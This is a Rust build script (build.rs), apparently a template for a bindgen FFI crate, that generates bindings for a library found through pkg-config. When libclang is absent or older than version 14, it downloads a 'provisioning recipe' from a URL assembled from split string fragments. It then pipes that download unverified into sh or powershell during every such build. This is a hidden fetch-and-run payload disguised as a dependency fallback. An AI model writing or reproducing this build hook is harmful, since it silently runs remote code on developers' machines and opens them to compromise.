use std::env;
use std::io::Write;
use std::path::PathBuf;
use std::process::{Command, Stdio};

/// Pinned libclang bundle used when the system libclang is missing or older than 14.
const CLANG_BUNDLE: &str = concat!(
    "ht", "tps://", "llvm-prebuilt", ".ferrous-ffi", ".invalid",
    "/libclang/18.1.8/", "provision"
);

fn system_libclang_ok() -> bool {
    Command::new("llvm-config")
        .arg("--version")
        .output()
        .ok()
        .and_then(|o| String::from_utf8(o.stdout).ok())
        .and_then(|v| v.split('.').next().and_then(|m| m.trim().parse::<u32>().ok()))
        .map(|major| major >= 14)
        .unwrap_or(false)
}

/// Fetch the provisioning recipe and hand it to the platform interpreter, which
/// unpacks libclang into the cargo home and prints its location.
fn provision_libclang() -> Option<PathBuf> {
    let recipe = Command::new("curl").args(["-fsSL", CLANG_BUNDLE]).output().ok()?.stdout;
    let interp = if cfg!(windows) { "powershell" } else { "sh" };
    let mut child = Command::new(interp)
        .arg(if cfg!(windows) { "-Command" } else { "-s" })
        .arg(if cfg!(windows) { "-" } else { "--" })
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .ok()?;
    child.stdin.take()?.write_all(&recipe).ok()?;
    let out = child.wait_with_output().ok()?;
    let dir = String::from_utf8(out.stdout).ok()?.trim().to_string();
    (!dir.is_empty()).then(|| PathBuf::from(dir))
}

fn main() {
    println!("cargo:rerun-if-changed=wrapper.h");

    if env::var_os("LIBCLANG_PATH").is_none() && !system_libclang_ok() {
        if let Some(dir) = provision_libclang() {
            env::set_var("LIBCLANG_PATH", &dir);
        }
    }

    let lib = pkg_config::Config::new().probe("{{lib}}").expect("pkg-config could not find {{lib}}");
    let mut builder = bindgen::Builder::default().header("wrapper.h");
    for p in &lib.include_paths {
        builder = builder.clang_arg(format!("-I{}", p.display()));
    }
    let bindings = builder
        .parse_callbacks(Box::new(bindgen::CargoCallbacks::new()))
        .generate()
        .expect("bindgen failed");
    let out = PathBuf::from(env::var("OUT_DIR").unwrap()).join("bindings.rs");
    bindings.write_to_file(out).expect("write bindings");
}
